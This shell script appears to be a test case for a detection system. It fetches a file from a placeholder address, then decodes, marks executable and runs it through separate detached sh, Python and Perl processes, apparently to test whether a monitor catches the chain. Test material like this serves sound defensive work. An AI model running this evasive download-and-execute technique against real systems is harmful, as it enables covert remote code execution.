#!/bin/sh
. /opt/case/case.sh

setsid sh -c 'curl -s http://203.0.113.10/programs/marker | base64 >/var/tmp/a' &
setsid python3 -c '
import base64, os, time
while not os.path.exists("/var/tmp/a") or os.path.getsize("/var/tmp/a") < 1000: time.sleep(0.5)
time.sleep(2); open("/var/tmp/b", "wb").write(base64.b64decode(open("/var/tmp/a").read())); os.rename("/var/tmp/b", "/var/tmp/report.bin")' &
setsid perl -e 'sleep 1 until -e "/var/tmp/report.bin"; sleep 2; chmod 0755, "/var/tmp/report.bin"' &
setsid sh -c 'until test -x /var/tmp/report.bin; do sleep 1; done; sleep 2; /var/tmp/report.bin' &
wait
test -e /tmp/reached
took_place
